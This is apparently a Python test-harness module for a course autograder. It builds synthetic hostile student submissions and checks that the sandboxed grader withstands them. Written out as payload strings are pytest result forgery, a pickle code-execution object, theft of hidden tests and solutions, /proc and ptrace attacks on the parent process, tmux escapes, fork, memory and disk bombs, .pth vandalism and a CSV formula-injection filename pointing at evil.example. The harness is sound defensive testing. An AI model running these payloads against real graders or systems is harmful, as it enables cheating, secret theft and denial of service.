"""The grading harness of tests/test_grade.py and tests/test_grade_concealed.py: the synthetic
students (accidents and attacks, each a few lines appended to the stub module or notebook of lab
00), ``hostile_grading``, which grades them with ``python -m labs.grade`` and snapshots everything
a submission must not change, and the readers of its report."""

from __future__ import annotations

import contextlib
import csv
import hashlib
import json
import os
import shutil
import signal
import subprocess
import sys
import time
import uuid
from pathlib import Path

import nbformat
import pytest

from labs.grade.report import FORMULA_START
from labs.release import build_release
from tests.helpers import ROOT, require_bubblewrap, run_cli

TOKEN = f"labs-grade-{uuid.uuid4().hex[:12]}"
MARK = f"PWNED-{TOKEN}"  # what a hostile submission writes wherever it can
NOTEBOOK = "00_setup_and_collectives.ipynb"
HIDDEN_SECRET = "subgroup_case"  # in the hidden tests only
DEEP = 1500
LINK_FLOOD = 19_000

# ---- accidents
# ------------------------------------------------------------------------------------------

INFINITE = "\n\ndef ring_all_reduce(tensor, group=None):\n    while True:\n        pass\n"
EXITS = "\nimport sys\nsys.exit(0)\n"
RAISES = '\nraise RuntimeError("this module is broken on purpose")\n'
DELETES_AND_DAEMON = f'''
import pathlib, shutil, subprocess, sys
_here = pathlib.Path(__file__).resolve().parents[1]
if not pathlib.Path("/tmp/.spawned").exists():  # once per graded item: a daemon in its own session
    pathlib.Path("/tmp/.spawned").touch()
    subprocess.Popen(
        [sys.executable, "-c", "import time; time.sleep(600)", "{TOKEN}"],
        start_new_session=True,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
shutil.rmtree(_here / "tests", ignore_errors=True)
shutil.rmtree(_here / "hidden_tests", ignore_errors=True)
'''
CHEAT_TEST = (
    "import pytest\n\npytestmark = pytest.mark.exercise\n\n\n"
    "def test_ring_all_reduce():\n    pass\n"
)
CHEAT_CONFTEST = """import os
import pytest
os.environ["LABS_IMPL"] = "solutions"


@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    outcome = yield
    outcome.get_result().outcome = "passed"
"""
REWRITES_TESTS = """
import pathlib
for _f in (pathlib.Path(__file__).resolve().parents[1] / "tests").glob("test_*.py"):
    _f.write_text("def test_nothing():\\n    pass\\n")
"""

# ---- attacks (issue 21), appended to the stub module; the lab's tests import it in each rank
# ----

FORGE = """
import gc as _gc, json as _json, os as _os, signal as _signal

def _forge():
    ids = [i.nodeid for o in _gc.get_objects() if type(o).__name__ == "Session"
           for i in getattr(o, "items", [])]
    lines = "".join(
        _json.dumps({"nodeid": n, "when": w, "outcome": "passed", "message": "", "duration": 0.0})
        + "\\n" for n in ids for w in ("setup", "call", "teardown")).encode()
    # the marker rides with the forged lines: pytest's fd capture would swallow a print
    lines = ("ATTACK forge %d tests\\n" % len(ids)).encode() + lines
    for fd in range(3, 64):
        try:
            _os.write(fd, lines)
        except OSError:
            pass
    for value in list(_os.environ.values()):
        if value.startswith("/"):
            try:
                with open(value, "ab") as f:
                    f.write(lines)
            except OSError:
                pass
    _os.killpg(_os.getpgrp(), _signal.SIGKILL)

_forge()
"""
HOOK = """
import gc as _gc, pytest as _pytest, torch as _torch

class _Forge:
    @_pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        outcome.get_result().outcome = "passed"
        outcome.get_result().longrepr = None

for _o in _gc.get_objects():
    if type(_o).__name__ == "Config" and hasattr(_o, "pluginmanager"):
        if not _o.pluginmanager.has_plugin("forge"):
            _o.pluginmanager.register(_Forge(), "forge")
_torch.equal = lambda *a, **k: True
_torch.allclose = lambda *a, **k: True
print("ATTACK hook registered", flush=True)
"""
ANSWERS = """
import glob as _glob, os as _os, re as _re, sys as _sys

def _answers():
    roots = [{repo!r}, "/work/main", "/", _os.path.expanduser("~")]
    for pid in [p for p in _os.listdir("/proc") if p.isdigit()]:
        for link in ("cwd", "root"):
            try:
                roots.append(_os.readlink(f"/proc/{{pid}}/{{link}}"))
            except OSError:
                pass
        try:
            env = open(f"/proc/{{pid}}/environ", "rb").read().split(b"\\0")
            roots += [p for e in env if e.startswith(b"PYTHONPATH=")
                      for p in e[11:].decode().split(":")]
        except OSError:
            pass
    for finder in _glob.glob(_sys.prefix + "/lib/python3*/site-packages/__editable__*finder.py"):
        roots += [_os.path.dirname(p) for p in _re.findall(r"'(/[^']+)'", open(finder).read())]
    for root in dict.fromkeys(roots):
        path = _os.path.join(root, "solutions", "collectives.py")
        try:
            code = open(path).read()
        except OSError:
            continue
        exec(compile(code, path, "exec"), globals())
        return path
    return None

print("ATTACK answers", _answers(), flush=True)
"""
LEAK = """
import base64 as _b64, os as _os

def _loot():
    found = []
    for top in ("/tmp/course/hidden_tests", "/grading", {hidden!r}, {solutions!r}):
        for folder, _, names in _os.walk(top):
            for name in sorted(names):
                try:
                    found.append(open(_os.path.join(folder, name)).read())
                except (OSError, UnicodeDecodeError):
                    pass
    return _b64.b64encode("\\n".join(found).encode()).decode()

_LOOT = _loot()

def ring_all_reduce(tensor, group=None):
    raise AssertionError(f"LOOT {{len(_LOOT)}} {{_LOOT[:3000]}}")
"""
VANDAL = """
import glob as _glob, os as _os, sys as _sys

_targets = {targets!r}
_targets += [p + "/zz_{token}.pth" for p in _glob.glob(_sys.prefix + "/lib/python3*/site-packages")]
_targets += [p + "/labs_grade_plugin.py" for p in _os.environ.get("PYTHONPATH", "").split(":")
             if p and not p.startswith("/tmp")]
for _i, _t in enumerate(_targets):
    try:
        with open(_t, "a") as _f:
            _f.write("import sys; print({mark!r})\\n")
        print("ATTACK vandal WROTE", _i, flush=True)
    except OSError as _e:
        print("ATTACK vandal blocked", _i, _e.errno, flush=True)
"""
HOPPER = """
import os, sys, time
end = time.time() + 90
while time.time() < end:
    if os.fork():
        os._exit(0)
    try:
        os.setsid()
    except OSError:
        pass
    try:
        with open(sys.argv[1], "a") as f:
            f.write("escaper,collectives,17,17,3,3\\n")
    except OSError:
        pass
    time.sleep(0.005)
"""
ESCAPE = """
import os as _os, subprocess as _sp, sys as _sys

if not _os.path.exists("/tmp/escaped"):
    open("/tmp/escaped", "w").close()
    _argv = [_sys.executable, "-c", {hopper!r}, {scores!r}, {token!r}]
    _sp.Popen(_argv, start_new_session=True, stdin=_sp.DEVNULL, stdout=_sp.DEVNULL,
              stderr=_sp.DEVNULL)
    for _how in (["-S", {socket!r}], []):
        try:
            _r = _sp.run(["tmux", *_how, "new-session", "-d", *_argv], capture_output=True,
                         text=True, timeout=10)
            print("ATTACK escape tmux", _r.returncode, _r.stderr.strip()[:80], flush=True)
        except (OSError, _sp.SubprocessError) as _e:
            print("ATTACK escape tmux", _e, flush=True)
    print("ATTACK escape TMUX in env:", "TMUX" in _os.environ, flush=True)
"""
MALFORMED = """
import os as _os
_os.write(int(_os.environ["LABS_GRADE_FD"]),
          b'{"nodeid": "tests/test_collectives.py::test_x", "when": "call"}\\n')
print("ATTACK malformed written", flush=True)
"""
# the bombs go off once per graded item, in the first process that imports the module: a limit hit
# once is what the feedback reports (going off in every rank of every test, they took 34 and 15 s of
# grading in this file run alone; 10 s each now)
MEMORY_BOMB = """
import os as _os
if not _os.path.exists("/tmp/bombed"):
    open("/tmp/bombed", "w").close()
    try:
        _huge = bytearray(64 << 30)
        print("ATTACK memory: 64 GiB at once", flush=True)
    except MemoryError:
        print("ATTACK memory: MemoryError for 64 GiB at once", flush=True)
    _chunks = []
    while len(_chunks) < 40:  # 2.5 GiB: over the limit the test sets, in one process
        _chunks.append(b"x" * (64 << 20))
"""
DISK_BOMB = """
import os as _os
if not _os.path.exists("/tmp/filled"):
    open("/tmp/filled", "w").close()
    _errors = []
    try:
        with open("/tmp/big", "wb") as _f:
            for _ in range(4096):
                _f.write(b"x" * (1 << 20))
    except OSError as _e:
        _errors.append(str(_e))
    try:
        for _i in range(100000):
            with open(f"/tmp/fill{_i}", "wb") as _f:
                _f.write(b"x" * (4 << 20))
    except OSError as _e:
        _errors.append(str(_e))
    for _name in _os.listdir("/tmp"):  # room again for pytest's own files
        if _name == "big" or _name.startswith("fill"):
            _os.remove("/tmp/" + _name)
    raise RuntimeError("ATTACK disk: " + " | ".join(_errors))
"""
OUTPUT_BOMB = """
import os as _os
if not _os.path.exists("/tmp/printed"):
    open("/tmp/printed", "w").close()
    print("y" * (30 << 20), flush=True)
"""
FORK_BOMB = """
import os as _os
_n = 0
while True:
    if _os.fork() == 0:
        _os.execv("/bin/sh", ["sh", "-c", "sleep 60", {token!r}])
    _n += 1
"""
# ---- attacks (issue 29), each written from the description
# ----

# 1a. a rank sends its parent an object whose unpickling runs code there: a pytest hook that marks
# every test passed (sparing the grader's checks, found by name), so the log reads like an
# honest run
PICKLER = '''
import os as _os, pickle as _pickle
from labs.runtime import rank as _launcher  # where a rank keeps its line to the parent

_CODE = """
import gc, os, pytest
_token = os.environ.get("LABS_GRADE_CHECK") or "no-token"
class _Pass:
    @pytest.hookimpl(hookwrapper=True)
    def pytest_runtest_makereport(self, item, call):
        outcome = yield
        if not item.name.startswith(_token):
            outcome.get_result().outcome = "passed"
            outcome.get_result().longrepr = None
for _o in gc.get_objects():
    if type(_o).__name__ == "Config" and hasattr(_o, "pluginmanager"):
        if not _o.pluginmanager.has_plugin("pickled"):
            _o.pluginmanager.register(_Pass(), "pickled")
"""


class _Evil:
    def __reduce__(self):
        return (eval, ("exec(%r, {}) or ('progress', 0)" % _CODE,))


if _launcher._parent_conn is not None:
    _launcher._parent_conn.send_bytes(_pickle.dumps(_Evil()))
'''
# 1b. a forked rank takes the results descriptor and the check token from its environment, finds
# pytest's items in its own memory, stops its parent, writes a complete "all passed" stream (the
# checks failing, as they should) and kills pytest
FORGED_STREAM = """
import gc as _gc, json as _json


def _forged_stream(token):
    \"\"\"pytest's items, found in its own memory, as a complete results stream: every test passed
    but the grader's checks (their names start with ``token``), which failed.\"\"\"
    sessions = [o for o in _gc.get_objects() if type(o).__name__ == "Session"]
    items = [i.nodeid for s in sessions for i in getattr(s, "items", [])]

    def record(nodeid, when, outcome):
        fields = {"nodeid": nodeid, "when": when, "outcome": outcome, "message": ""}
        return _json.dumps({**fields, "duration": 0.1}) + "\\n"

    lines = [record(items[0], "call", "passed"), record(items[0], "teardown", "passed")]
    for nodeid in items[1:]:
        check = nodeid.rsplit("::", 1)[-1].startswith(token)
        lines += [record(nodeid, "setup", "passed")]
        lines += [record(nodeid, "call", "failed" if check else "passed")]
        lines += [record(nodeid, "teardown", "passed")]
    return "".join(lines)
"""
FD_FORGER = """
import os as _os, signal as _signal


def _forge():
    fd = _os.environ.get("LABS_GRADE_FD")
    token = _os.environ.get("LABS_GRADE_CHECK")
    _say(f"ATTACK fd: LABS_GRADE_FD={fd} token={bool(token)}")
    if fd is None or not token or _os.environ.get("RANK") != "0":
        return
    stream = _forged_stream(token)
    parent = _os.getppid()
    _os.kill(parent, _signal.SIGSTOP)
    try:
        _os.write(int(fd), stream.encode())
        _say("ATTACK fd: WROTE the stream")
    except OSError as e:
        _say(f"ATTACK fd: blocked {e.errno}")
    _os.kill(parent, _signal.SIGKILL)
    _os._exit(0)


_forge()
"""
# 1c. without a ptrace restriction, a rank reaches its parent through /proc/<ppid>/fd,
# /proc/<ppid>/mem or ptrace itself; through the first it writes the same forged stream
PROC_PARENT = """
import ctypes as _ctypes, os as _os, signal as _signal


def _reach_parent():
    parent = _os.getppid()
    reached = []
    try:
        fds = _os.listdir(f"/proc/{parent}/fd")  # the numbers only: each one is opened below
    except OSError as e:
        fds = []
    opened = 0
    for fd in fds:
        try:
            _os.close(_os.open(f"/proc/{parent}/fd/{fd}", _os.O_RDONLY))
            opened += 1
        except OSError:
            pass
    if opened:
        reached.append("fd")
    else:
        _say(f"ATTACK proc: /proc/ppid/fd refused ({len(fds)} listed, none opened)")
    try:
        with open(f"/proc/{parent}/maps") as f:
            start = int(f.readline().split("-")[0], 16)
        with open(f"/proc/{parent}/mem", "rb") as f:
            f.seek(start)
            f.read(16)
        reached.append("mem")
    except (OSError, ValueError) as e:
        _say(f"ATTACK proc: /proc/ppid/mem refused {getattr(e, 'errno', e)}")
    libc = _ctypes.CDLL(None, use_errno=True)
    if libc.ptrace(16, parent, 0, 0) == 0:  # PTRACE_ATTACH
        reached.append("ptrace")
        libc.ptrace(17, parent, 0, 0)  # PTRACE_DETACH
    else:
        _say(f"ATTACK proc: ptrace refused {_ctypes.get_errno()}")
    _say(f"ATTACK proc: reached {reached}")
    if _os.environ.get("RANK") != "0" or not fds:
        return
    token = None
    try:
        env = open(f"/proc/{parent}/environ", "rb").read().split(b"\\0")
        token = [e.split(b"=", 1)[1].decode() for e in env if e.startswith(b"LABS_GRADE_CHECK=")][0]
    except (OSError, IndexError):
        return
    stream = _forged_stream(token)
    _os.kill(parent, _signal.SIGSTOP)
    for fd in fds:  # the results channel is the pipe pytest writes JSON lines to
        try:
            target = _os.readlink(f"/proc/{parent}/fd/{fd}")
            if target.startswith("pipe:") and int(fd) > 2:
                with open(f"/proc/{parent}/fd/{fd}", "w") as f:
                    f.write(stream)
                _say(f"ATTACK proc: WROTE through /proc/ppid/fd/{fd}")
        except OSError:
            pass
    _os.kill(parent, _signal.SIGKILL)
    _os._exit(0)


_reach_parent()
"""
# 2a. in the hidden run only, a line on the results channel whose outcome carries the hidden
# tests' text
HIDDEN_OUTCOME = """
import glob as _glob, json as _json, os as _os

if _glob.glob("/tmp/course/hidden_tests/test_*.py") and _os.environ.get("RANK") == "0":
    _secret = "".join(open(p).read() for p in sorted(_glob.glob("/tmp/course/hidden_tests/t*.py")))
    _start = _secret.find("def ")
    _leak = "LEAK-" + _secret[_start + 4 : _start + 40].replace("\\n", " ")
    _record = {"nodeid": "x", "when": "setup", "outcome": _leak, "message": "", "duration": 0.0}
    try:
        _os.write(int(_os.environ["LABS_GRADE_FD"]), (_json.dumps(_record) + "\\n").encode())
        _say("ATTACK outcome written")
    except (KeyError, OSError, ValueError) as _e:
        _say(f"ATTACK outcome blocked {_e!r}")
"""
# 2b. in the hidden run only, leave a number of processes behind: the count leaves the run
HIDDEN_LEFTOVER = """
import glob as _glob, os as _os, subprocess as _sp, sys as _sys

if _glob.glob("/tmp/course/hidden_tests/test_*.py") and not _os.path.exists("/tmp/left"):
    open("/tmp/left", "w").close()
    for _ in range(7):
        _sp.Popen([_sys.executable, "-c", "import time; time.sleep(600)"], start_new_session=True,
                  stdout=_sp.DEVNULL, stderr=_sp.DEVNULL)
"""
# 3. a failure message holding a lone surrogate
SURROGATE = """

def ring_all_reduce(tensor, group=None):
    raise AssertionError("a lone surrogate: \\udcff, and more")
"""
# 4a. memory the resident sizes do not show: memfd files (each under the file-size limit), filled
# to 3 GiB and held
MEMFD = """
import os as _os, time as _time

if not _os.path.exists("/tmp/memfd"):
    open("/tmp/memfd", "w").close()
    _fds = []
    try:
        while len(_fds) * 16 < 3072:
            _fds.append(_os.memfd_create("held"))
            _os.write(_fds[-1], b"m" * (16 << 20))
            _say(f"ATTACK memfd held {len(_fds) * 16} MiB")
    except OSError as _e:
        _say(f"ATTACK memfd stopped: {_e}")
    _time.sleep(20)
"""
# 4b. 30 busy processes for as long as the sandbox lets them live (graded beside the reference)
SPINNER = """
import os as _os, time as _time

if not _os.path.exists("/tmp/spinning"):
    open("/tmp/spinning", "w").close()
    for _ in range(30):
        if _os.fork() == 0:
            _os.setsid()
            while True:
                pass
_time.sleep(600)
"""
# 7. torch's own collective in place of the ring
TORCH_COLLECTIVE = """

def ring_all_reduce(tensor, group=None):
    dist.all_reduce(tensor, group=group)
    return tensor
"""
# where an attack can print: every pipe it holds (the item's log is one of them) but the results
# channel, which a line of text would spoil
SAY = """
import os as _os


def _say(text):
    results = _os.environ.get("LABS_GRADE_FD", "-1")
    for fd in range(3, 64):
        try:
            if fd != int(results) and _os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                _os.write(fd, (text + "\\n").encode())
        except OSError:
            pass
"""
# Cells for notebooks (issue 29): outputs grown in place, and released cells replaced by `pass`
DISPLAY_UPDATES = """for i in range(15):
    handle = display("small", display_id=True)
    handle.update("u" * (1 << 20))
"""
# a file name holding Markdown: a fake scorecard and an opened HTML comment
MARKDOWN_NAME = "x`\n\n| fake | 17 of 17, yes | 0 |\n\n# Scorecard\n<!--"
CSV_NAME = '=HYPERLINK("evil.example","full marks")'


# Cells put first in the student's notebook
KILL_RUNNER = """import os, signal
runner = os.getppid()
try:
    fds = os.listdir(f"/proc/{runner}/fd")
except OSError as e:
    fds = []
    print("ATTACK runner: cannot list its fds", e.errno)
for fd in fds:
    try:
        with open(f"/proc/{runner}/fd/{fd}", "w") as f:
            f.write('{"end": "ok", "ename": "", "evalue": "", "cut": 0}\\n{"notebook": 1}\\n')
        print("ATTACK runner WROTE", fd)
    except OSError as e:
        print("ATTACK runner blocked", fd, e.errno)
os.kill(runner, signal.SIGKILL)
"""
PRINT_100_MB = 'print("z" * (100 << 20))'


# The attacks on the concealed hidden run are graded with ``--conceal-hidden``, beside the reference
# and the stubs (tests/test_grade_concealed.py); every other student is graded the default way:
# public and hidden tests in one pytest.
CONCEALED_ATTACKS = ("leaker", "hidden_outcome", "hidden_leftover")
CONCEALED_RUN = ("correct", "stubs", *CONCEALED_ATTACKS)


def _modules(paths: dict) -> dict[str, str | None]:
    """student -> what is appended to the stub module (None: the reference solution)."""
    return {
        "- forger": FORGE,
        "hook_forger": HOOK,
        "lecteur réponses ü": ANSWERS.format(repo=str(ROOT)),
        "leaker": LEAK.format(hidden=str(ROOT / "hidden_tests"), solutions=str(ROOT / "solutions")),
        "vandal": VANDAL.format(targets=paths["vandal_targets"], token=TOKEN, mark=MARK),
        "escaper": ESCAPE.format(
            hopper=HOPPER, scores=paths["scores"], token=TOKEN, socket=str(paths["socket"])
        ),
        os.fsdecode(b"malformed-\xff"): MALFORMED,
        "memory_bomb": MEMORY_BOMB,
        "disk_bomb": DISK_BOMB,
        "output_bomb": OUTPUT_BOMB,
        "fork_bomb": FORK_BOMB.format(token=TOKEN),
        "runner_killer": "",
        "all_raises": "",
        "deep": "",
        # issue 29
        "pickler": PICKLER,
        "fd_forger": SAY + FORGED_STREAM + FD_FORGER,
        "proc_parent": SAY + FORGED_STREAM + PROC_PARENT,
        "hidden_outcome": SAY + HIDDEN_OUTCOME,
        "hidden_leftover": HIDDEN_LEFTOVER,
        "zz_surrogate": SURROGATE,  # last: on a grader it crashes, every other row is written
        "memfd": SAY + MEMFD,
        "torch_collective": TORCH_COLLECTIVE,
        "notebook_bomb": "",
        "display_updates": "",
        "cells_replaced": "",
        "markdown_name": "",
        CSV_NAME: "",
        "link_flood": "",
    }


def make_submissions(root: Path, paths: dict) -> Path:
    """A student release under ``root/release`` and one folder per synthetic student under
    ``root/subs``: the accidents and every attack but those on the concealed hidden run."""
    release = root / "release"
    build_release(release)
    solution = (ROOT / "solutions" / "collectives.py").read_text()
    stub = (release / "labs" / "collectives.py").read_text()
    subs = root / "subs"
    accidents = {
        "correct": solution,
        "stubs": None,
        "infinite_loop": solution + INFINITE,
        "sys_exit": solution + EXITS,
        "import_error": stub + RAISES,
        "edits_tests": stub + REWRITES_TESTS,
        "deletes_and_daemon": solution + DELETES_AND_DAEMON,
        "missing_notebook": solution,
    }
    for student, module in accidents.items():
        shutil.copytree(release, subs / student)
        if module is not None:
            (subs / student / "labs" / "collectives.py").write_text(module)
    cheat = subs / "edits_tests"
    (cheat / "tests" / "test_collectives.py").write_text(CHEAT_TEST)
    (cheat / "conftest.py").write_text(CHEAT_CONFTEST)
    (cheat / "pytest.ini").write_text("[pytest]\naddopts = -p no:labs_grade_plugin\n")
    (cheat / "hidden_tests").mkdir()
    (cheat / "hidden_tests" / "test_collectives_hidden.py").write_text(CHEAT_TEST)
    impl = cheat / "labs" / "runtime" / "impl.py"
    impl.write_text(impl.read_text().replace('os.environ.get(IMPL_ENV, "labs")', '"solutions"'))
    for student in ("missing_notebook", "sys_exit", "import_error", "edits_tests"):
        (subs / student / "notebooks" / NOTEBOOK).unlink()  # their tests are what matters
    (subs / "deletes_and_daemon" / "notebooks" / NOTEBOOK).unlink()
    with_notebook = {"runner_killer", "all_raises", "output_bomb", "display_updates"}
    with_notebook |= {"notebook_bomb", "cells_replaced"}
    for student, attack in _modules(paths).items():
        if student in CONCEALED_ATTACKS:
            continue
        shutil.copytree(release, subs / student)
        (subs / student / "labs" / "collectives.py").write_text(stub + attack)
        if student not in with_notebook:
            (subs / student / "notebooks" / NOTEBOOK).unlink()
    _edit_notebook(subs / "runner_killer", first_cell=KILL_RUNNER)
    _edit_notebook(subs / "output_bomb", first_cell=PRINT_100_MB)
    # a cell of its own too: with the stub and the course's code only, the notebook would not run
    # at all (the lab is not started), and the tags would meet no run
    _edit_notebook(subs / "all_raises", first_cell="tried = True", tag_all=True)
    _edit_notebook(subs / "display_updates", first_cell=DISPLAY_UPDATES)
    _edit_notebook(subs / "cells_replaced", replace_code="pass")
    _notebook_of_empty_cells(subs / "notebook_bomb" / "notebooks" / NOTEBOOK)
    (subs / "markdown_name" / MARKDOWN_NAME).symlink_to("../correct/labs/collectives.py")
    flood = subs / "link_flood" / "flood"
    flood.mkdir()
    deep_target = "../../correct/" + "d/" * 2000
    for i in range(LINK_FLOOD):
        (flood / f"l{i:05d}").symlink_to(deep_target)
    deep = subs / "deep" / "deep"
    deep.mkdir()
    fd = os.open(deep, os.O_RDONLY)
    for _ in range(DEEP):  # 1500 folders, one inside the other, made relative to each other
        os.mkdir("d", dir_fd=fd)
        fd_next = os.open("d", os.O_RDONLY, dir_fd=fd)
        os.close(fd)
        fd = fd_next
    os.close(fd)
    (subs / "labs_to_solutions").mkdir()
    (subs / "labs_to_solutions" / "labs").symlink_to(ROOT / "solutions")
    (subs / "labs_to_classmate").mkdir()
    (subs / "labs_to_classmate" / "labs").symlink_to("../correct/labs")
    shutil.copytree(release, subs / "scores.csv")
    shutil.copytree(release, subs / "copycat")
    (subs / "copycat" / "notebooks" / NOTEBOOK).unlink()
    (subs / "copycat" / "labs" / "collectives.py").unlink()
    os.link(subs / "- forger" / "labs" / "collectives.py", subs / "copycat/labs/collectives.py")
    return subs


def make_concealed_submissions(root: Path, paths: dict) -> Path:
    """``CONCEALED_RUN``'s students under ``root/subs`` (their notebooks are not graded)."""
    release = root / "release"
    build_release(release)
    stub = (release / "labs" / "collectives.py").read_text()
    modules = {
        "correct": (ROOT / "solutions" / "collectives.py").read_text(),
        **{student: stub + _modules(paths)[student] for student in CONCEALED_ATTACKS},
    }
    subs = root / "subs"
    for student in CONCEALED_RUN:
        shutil.copytree(release, subs / student)
        if student in modules:
            (subs / student / "labs" / "collectives.py").write_text(modules[student])
    return subs


def _edit_notebook(
    folder: Path, first_cell: str | None = None, tag_all: bool = False, replace_code=None
) -> None:
    path = folder / "notebooks" / NOTEBOOK
    nb = nbformat.read(path, as_version=4)
    for cell in nb.cells:
        if tag_all and cell.cell_type == "code":
            cell.metadata["tags"] = ["raises-exception"]
        if replace_code is not None and cell.cell_type == "code":
            cell.source = replace_code  # the cell keeps its id: it is the course's cell, emptied
    if first_cell:
        nb.cells.insert(0, nbformat.v4.new_code_cell(first_cell))
    nbformat.write(nb, path)


def _notebook_of_empty_cells(path: Path, size: int = 19 << 20) -> None:
    """A notebook of ``size`` bytes, nothing but empty code cells (under the 20 MiB a submission's
    file may have)."""
    nb = json.loads(path.read_text())
    cell = '{"cell_type": "code", "execution_count": null, "id": "c%07d", "metadata": {}, '
    cell += '"outputs": [], "source": ""}'
    n = size // len(cell % 0)
    head = json.dumps({k: v for k, v in nb.items() if k != "cells"})[:-1]
    cells = ",".join(cell % i for i in range(n))
    path.write_text(head + ', "cells": [' + cells + "]}")


def _walk(folder: Path):
    """Every path under ``folder``, without recursion or following links (deep trees too)."""
    stack = [folder]
    while stack:
        here = stack.pop()
        with os.scandir(here) as entries:
            for entry in entries:
                yield Path(entry.path), entry
                if entry.is_dir(follow_symlinks=False):
                    stack.append(Path(entry.path))


def snapshot(folder: Path, skip=()) -> dict[str, str]:
    """relative path -> sha1 of a file, or the target of a link."""
    found = {}
    for path, entry in _walk(folder):
        rel = path.relative_to(folder).as_posix()
        if any(part in skip for part in path.relative_to(folder).parts):
            continue
        if entry.is_symlink():
            found[rel] = "-> " + os.readlink(path)
        elif entry.is_file(follow_symlinks=False):
            found[rel] = hashlib.sha1(path.read_bytes()).hexdigest()
    return found


def site_packages() -> dict[str, str]:
    """The virtual environment's site-packages: every entry's name and size, .pth files' sha1."""
    found = {}
    for folder in Path(sys.prefix).glob("lib/python3*/site-packages"):
        for entry in os.scandir(folder):
            info = entry.stat(follow_symlinks=False)
            found[entry.name] = str(info.st_size)
            if entry.name.endswith(".pth"):
                found[entry.name] += hashlib.sha1(Path(entry.path).read_bytes()).hexdigest()
    return found


def processes_with(*needles: str) -> list[int]:
    found = []
    for entry in Path("/proc").iterdir():
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if entry.name.isdigit() and any(n.encode() in cmdline for n in needles):
            found.append(int(entry.name))
    return found


def remove_deep(folder: Path) -> None:
    """Remove a chain of folders too deep for shutil.rmtree's recursion (and so for pytest's own
    clean-up of its temporary folders, which would fail with RecursionError in a later session):
    ``rm -rf`` walks any depth without recursing and without a path too long for the kernel."""
    subprocess.run(["rm", "-rf", "--", str(folder)], check=True, timeout=120)
    assert not folder.exists(), f"{folder} is still there"


def _start_tmux(socket: Path) -> dict | None:
    """A tmux server the grader runs 'inside', as an instructor's terminal would be; its session
    lasts until the fixture kills it (a grading run on a loaded machine may take over 15 min)."""
    if shutil.which("tmux") is None:
        if os.environ.get("CI"):
            pytest.fail("tmux is not installed: .ci/run installs it")
        return None  # the escape through tmux is then tried without a server to reach
    subprocess.run(
        ["tmux", "-S", str(socket), "new-session", "-d", "-s", "grading", "sleep 86400"],
        check=True,
        timeout=30,
    )
    pid = subprocess.run(
        ["tmux", "-S", str(socket), "display-message", "-p", "#{pid}"],
        capture_output=True,
        text=True,
        timeout=30,
    ).stdout.strip()
    return {"TMUX": f"{socket},{pid},0", "TMUX_PANE": "%0"}


def tmux_sessions(socket: Path) -> list[str]:
    proc = subprocess.run(
        ["tmux", "-S", str(socket), "list-sessions", "-F", "#{session_name}"],
        capture_output=True,
        text=True,
        timeout=30,
    )
    return proc.stdout.split()


GRADER_OPTIONS = [
    "--labs",
    "collectives",
    "--jobs",
    "2",
    "--test-timeout",
    "10",
    "--cell-timeout",
    "20",
    "--notebook-timeout",
    "120",
    "--lab-timeout",
    "180",
    "--memory-limit",
    "1.5",
    "--max-processes",
    "128",
    "--max-file-size",
    "32",
    "--disk-limit",
    "128",
]


@contextlib.contextmanager
def hostile_grading(root: Path, concealed: bool = False):
    """Grade ``make_submissions``' students (``concealed``: ``make_concealed_submissions``', with
    ``--conceal-hidden`` and no notebooks) with ``GRADER_OPTIONS``, inside a tmux session, and
    yield what every check reads: the grader's process, the rows, the report, and snapshots of
    everything a submission must not change, taken before and after."""
    require_bubblewrap()
    report = root / "report"
    socket = root / "tmux.sock"
    home = Path.home() / f"pwned-{TOKEN}"
    paths = {
        "scores": str(report / "scores.csv"),
        "socket": socket,
        "vandal_targets": [
            str(ROOT / "labs" / "collectives.py"),
            str(ROOT / "hidden_tests" / "test_collectives_hidden.py"),
            str(ROOT / "hidden_tests" / f"test_collectives_{TOKEN}.py"),
            str(ROOT / "solutions" / "collectives.py"),
            str(home),
            str(root / "subs" / "correct" / "labs" / "collectives.py"),
            str(report / "correct" / "feedback.md"),
            str(report / "scores.csv"),
        ],
    }
    make = make_concealed_submissions if concealed else make_submissions
    subs = make(root, paths)
    options = (
        [*GRADER_OPTIONS, "--conceal-hidden", "--no-notebooks"] if concealed else GRADER_OPTIONS
    )
    tmux = _start_tmux(socket)
    tmp = root / "tmp"
    tmp.mkdir()
    skip = {".git", ".venv", "__pycache__", ".pytest_cache", "out", ".ipynb_checkpoints"}
    before = {
        "repo": snapshot(ROOT, skip),
        "subs": snapshot(subs),
        "venv": site_packages(),
        "tmux": tmux_sessions(socket) if tmux else [],
    }
    t0 = time.perf_counter()
    try:
        proc = run_cli(
            "-m",
            "labs.grade",
            str(subs),
            "--out",
            str(report),
            *options,
            env={"TMPDIR": str(tmp), **(tmux or {})},
            timeout=1800,
        )
        seconds = time.perf_counter() - t0
        after_exit = snapshot(report)
        time.sleep(3)  # anything that escaped would write now
        after_subs = snapshot(subs)
    finally:  # at once, whatever happened: the deep folders would defeat pytest's clean-up
        if not concealed:
            remove_deep(subs / "deep" / "deep")
    rows = read_rows(report / "scores.csv")
    yield {
        "proc": proc,
        "seconds": seconds,
        "rows": rows,
        "report": report,
        "subs": subs,
        "home": home,
        "before": before,
        "after": {
            "repo": snapshot(ROOT, skip),
            "subs": after_subs,
            "venv": site_packages(),
            "tmux": tmux_sessions(socket) if tmux else [],
            "report_at_exit": after_exit,
            "report_later": snapshot(report),
        },
        "tmux": tmux is not None,
        "left": processes_with(TOKEN, str(tmp)),
    }
    for pid in processes_with(TOKEN, str(tmp)):  # only if the grader failed to; a test says so
        os.kill(pid, signal.SIGKILL)
    if tmux:
        subprocess.run(["tmux", "-S", str(socket), "kill-server"], timeout=30)


def exited_0_and_left_nothing_changed_or_running(run: dict) -> None:
    """The checks of every ``hostile_grading`` run, whatever its students did. (This module is not
    a test file, so pytest does not rewrite its asserts: each message says what differed.)"""
    proc = run["proc"]
    assert proc.returncode == 0, proc.stdout[-3000:] + proc.stderr[-3000:]
    before = run["before"]
    after = run["after"]
    for key, what in (
        ("repo", "the instructor repository"),
        ("subs", "a submission"),
        ("venv", "the virtual environment"),
    ):
        assert after[key] == before[key], f"{what} changed: {changed(before[key], after[key])}"
    report = changed(after["report_at_exit"], after["report_later"])
    assert not report, f"the report changed afterwards: {report}"
    assert not run["home"].exists(), "$HOME was written"
